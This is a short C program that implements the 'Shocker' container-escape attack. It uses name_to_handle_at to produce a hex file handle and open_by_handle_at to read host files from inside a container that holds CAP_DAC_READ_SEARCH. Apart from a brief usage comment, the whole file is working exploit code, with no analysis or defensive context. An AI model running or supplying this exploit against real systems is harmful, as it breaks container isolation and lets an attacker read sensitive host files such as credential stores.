/* Shocker: a file of the host by its handle, which CAP_DAC_READ_SEARCH alone opens.
   `attack make FILE` prints the handle, `attack open HANDLE FOLDER` reads the file. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int count, char **words) {
    union {
        struct file_handle handle;
        unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } of = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
    char text[256];
    int mount;
    if (count == 3 && !strcmp(words[1], "make")) {
        if (name_to_handle_at(AT_FDCWD, words[2], &of.handle, &mount, 0))
            return perror("name_to_handle_at"), 1;
        for (size_t at = 0; at < sizeof(struct file_handle) + of.handle.handle_bytes; at++)
            printf("%02x", of.bytes[at]);
        return 0;
    }
    if (count != 4 || strcmp(words[1], "open"))
        return 2;
    for (size_t at = 0; at < strlen(words[2]) / 2 && at < sizeof(of.bytes); at++)
        sscanf(words[2] + 2 * at, "%2hhx", &of.bytes[at]);
    int folder = open(words[3], O_RDONLY | O_DIRECTORY);
    int file = open_by_handle_at(folder, &of.handle, O_RDONLY);
    if (file < 0)
        return perror("open_by_handle_at"), 1;
    ssize_t length = read(file, text, sizeof(text));
    return length > 0 ? (int)(write(1, text, (size_t)length) < 0) : 1;
}
